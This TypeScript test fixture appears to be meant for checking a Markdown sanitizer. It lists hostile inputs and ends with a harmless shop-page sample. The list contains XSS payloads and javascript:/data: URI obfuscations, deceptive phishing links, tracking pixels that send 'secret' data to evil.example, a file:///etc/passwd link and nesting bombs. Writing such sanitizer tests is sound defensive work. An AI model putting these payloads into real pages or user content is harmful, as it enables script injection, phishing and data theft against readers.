/** Markdown that wants to run something, to load something, or to look like something else. */

export const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(https://evil.example/)}</style>',
  '<base href="https://evil.example/"><form action=//evil.example><input name=q></form>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x]( javascript:alert(1) "title")',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:image/png;base64,AAAA)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://shop.example/1)',
  '[x](https://shop.example@evil.example/)',
  '[https://bank.example](https://evil.example/)',
  '[bank.example/login](https://evil.example/)',
  '[bank.example](https://evil.example/bank.example)',
  '[ba\u202enk](https://evil.example/)',
  '<javascript:alert(1)>',
  '<https://evil.example/?q=secret>',
  'https://evil.example/?q=secret',
  'javascript:alert(1)',
  '![x](https://evil.example/pixel.png?data=secret)',
  '![x](//evil.example/pixel.png)',
  '![x](http://evil.example/pixel.png "t")',
  '![](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x"onerror="alert(1)](https://evil.example/a.png)',
  '![x](https://evil.example/a.png"onerror="alert(1))',
  '[![x](https://evil.example/a.png)](https://evil.example/)',
  '[a]: javascript:alert(1)\n\n[a]',
  '```js" onclick="alert(1)\ncode\n```',
  '```<script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '~~~html onmouseover=alert(1)\n<b>\n~~~',
  '`<script>alert(1)</script>`',
  '| a | b |\n|---|---|\n| <script>alert(1)</script> | ![x](https://evil.example/t.png) |\n',
  '- [x] <img src=x onerror=alert(1)>\n- [ ] ok',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '# <script>alert(1)</script>',
  '> <iframe src="https://evil.example/"></iframe>',
  '$$\\href{javascript:alert(1)}{x}$$ and $\\unicode{<img src=x onerror=alert(1)>}$',
  `${'>'.repeat(3000)} deep`,
  `${'- '.repeat(500)}deep`,
  `${'*'.repeat(5000)}stars`,
  `${'['.repeat(3000)}x${'](https://evil.example/)'.repeat(50)}`,
  `[x](https://evil.example/${'a'.repeat(10_000)})`,
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
];

export const plain = `# Two mugs

The **Dawn mug** costs *18 €*, the ~~Tide mug~~ \`mug-tide\` too. See [our page](https://shop.example/mugs),
<https://shop.example/a> or [write](mailto:shop@shop.example).

1. One
2. Two
   - inside

- [x] paid
- [ ] sent

> Nice mug.

| Mug | Price |
|-----|------:|
| Dawn | 18 |

\`\`\`js
const a = '<b>';
\`\`\`

---

![a mug](https://shop.example/mug.png)
`;
